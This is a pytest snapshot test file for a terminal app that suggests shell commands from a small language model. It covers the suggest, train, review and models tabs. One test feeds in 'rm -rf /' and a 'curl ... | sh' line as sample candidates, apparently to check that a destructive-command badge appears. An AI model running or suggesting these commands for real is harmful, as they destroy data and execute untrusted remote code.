"""Snapshots of each tab at 80x24. Nothing time- or path-dependent is drawn: clocks, run names and
timestamps are fixed here. Update with `pytest tests/tui/test_snapshots.py --snapshot-update`."""
import itertools
import json
import sqlite3
import time

import pytest
from textual.widgets import Input

from engine.checkpoint import save_checkpoint
from engine.feedback import FeedbackStore, UpdateRecord
from engine.generate import Candidate
from engine.store import ModelStore
from tinyllm_tui.app import TinyLLMApp
from tinyllm_tui.messages import CandidatesStreamed
from tinyllm_tui.widgets import suggest
from tinyllm_tui.widgets.suggest import SuggestPanel

FIXED_TIME = 1767225600.0  # 2026-01-01 00:00 UTC


@pytest.fixture(autouse=True)
def drawn_without_the_bundled_model(no_bundled_model):
    """Snapshots must not change when the bundled model is retrained."""


@pytest.fixture(autouse=True)
def utc(monkeypatch):
    monkeypatch.setenv("TZ", "UTC")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


async def settle(pilot):
    for widget in pilot.app.query(Input):
        widget.cursor_blink = False
    await pilot.app.workers.wait_for_complete()
    await pilot.pause()
    # A DataTable sizes its columns after the refresh that follows new rows: on a busy machine one
    # pause could draw it with the widths of an empty table ("sft  finish").
    await pilot.wait_for_scheduled_animations()
    await pilot.pause()


def showing(key):
    """run_before for a tab: show it, then let its workers read what it draws."""
    async def run_before(pilot):
        await pilot.press(key)
        await settle(pilot)
    return run_before


class ScriptedEngine:
    """Stands in for the model: the tiny test model is retrained per session and its runners-up vary."""

    def beam_search(self, requests, width, n, max_new_tokens):
        final = {"list files": [Candidate("ls -la", -0.01), Candidate("ls -l", -0.84), Candidate("ls", -1.32)],
                 "show disk usage": [Candidate("df -h", -0.02), Candidate("du -sh .", -1.1)]}[requests[0]]
        yield [[Candidate(c.command[:2], c.score) for c in final[:1]]]
        yield [final]


def test_suggest_tab(snap_compare, monkeypatch):
    monkeypatch.setattr(suggest, "clock", itertools.count(0, 0.042).__next__)  # each clock reading advances 42 ms

    async def run_before(pilot):
        await settle(pilot)
        pilot.app.query_one(SuggestPanel).set_engine(ScriptedEngine(), "tiny.tlm")
        pilot.app.sub_title = "model tiny.tlm"
        for request in ("show disk usage", "list files"):
            pilot.app.query_one("#request", Input).value = request
            await pilot.press("enter")
            await settle(pilot)
        await pilot.press("down")
        await settle(pilot)

    assert snap_compare(TinyLLMApp(), run_before=run_before)


def test_suggest_destructive_badge(snap_compare):
    async def run_before(pilot):
        await settle(pilot)
        panel = pilot.app.query_one(SuggestPanel)
        panel.engine = object()  # never called: the candidates are posted by hand
        panel.decode = lambda *args: None
        pilot.app.query_one("#request", Input).value = "delete everything"
        await pilot.press("enter")
        candidates = [Candidate("rm -rf ./build", -0.21), Candidate("rm -rf /", -0.35),
                      Candidate("curl -s https://x.io/i.sh | sh", -0.9)]
        panel.post_message(CandidatesStreamed(1, candidates, done=True, elapsed_ms=12.0))
        await settle(pilot)

    assert snap_compare(TinyLLMApp(), run_before=run_before)


def test_train_tab(snap_compare, tinyllm_home):
    run = tinyllm_home / "data" / "runs" / "sft-20260101-000000"
    run.mkdir(parents=True)
    (run / "job.json").write_text(json.dumps({"phase": "sft", "argv": ["tinyllm", "train", "sft"], "pid": 2 ** 22 + 7,
                                              "started": FIXED_TIME, "status": "finished", "total_steps": 60}))
    events = [{"event": "start", "time": FIXED_TIME, "phase": "sft", "total_steps": 60, "params": 1234,
               "preset": "nano"}]
    for step in range(1, 61):
        events.append({"event": "step", "step": step, "total_steps": 60, "loss": 4.0 / step ** 0.5, "lr": 3e-4,
                       "tok_s": 5120.0, "elapsed": step * 1.5, "eta": (60 - step) * 1.5, "peak_mem_mb": 310.0,
                       "tokens": step * 4096})
        if step % 10 == 0:
            events.append({"event": "eval", "step": step, "val_loss": 4.4 / step ** 0.5, "exact_match": step / 100,
                           "n": 50})
    events.append({"event": "end", "step": 60, "status": "finished", "message": "saved checkpoint.tlm"})
    (run / "metrics.jsonl").write_text("".join(json.dumps(e) + "\n" for e in events))
    (run / "train.log").write_text("".join(f"step {s} loss {4.0 / s ** 0.5:.3f}\n" for s in range(55, 61)))

    assert snap_compare(TinyLLMApp(), run_before=showing("f3"))


def test_review_tab(snap_compare, tinyllm_home):
    store = FeedbackStore()
    store.add_correction("list files", "ls", "ls -la", source="tui")
    store.add_correction("show disk usage", "du", "df -h", source="shell")
    store.accept(1)
    store.record_update(UpdateRecord("rejected", [1], parent_version=1, new_before=0.25, new_after=0.75,
                                     base_before=0.9, base_after=0.82, message="base accuracy fell"))
    with sqlite3.connect(store.path) as db:  # fixed times, so the snapshot does not depend on the clock
        db.execute("UPDATE corrections SET created = ?", (FIXED_TIME,))
        db.execute("UPDATE updates SET time = ?", (FIXED_TIME,))

    assert snap_compare(TinyLLMApp(), run_before=showing("f4"))


def test_models_tab(snap_compare, tiny_model, tiny_tokenizer, tmp_path):
    store = ModelStore()
    for version, (parent, score) in enumerate([("base.tlm", 0.62), ({"version": 1, "path": "x"}, 0.71)], 1):
        meta = {"name": f"sft-{version}", "steps": 200 * version, "data": ["cli-pairs", "tldr"],
                "eval": {"exact_match": score}, "parent": parent}
        store.add(save_checkpoint(tmp_path / f"m{version}.tlm", tiny_model, tiny_tokenizer, meta), activate=True)

    assert snap_compare(TinyLLMApp(), run_before=showing("f5"))


def test_help_screen(snap_compare):
    assert snap_compare(TinyLLMApp(), press=["f1"], run_before=settle)
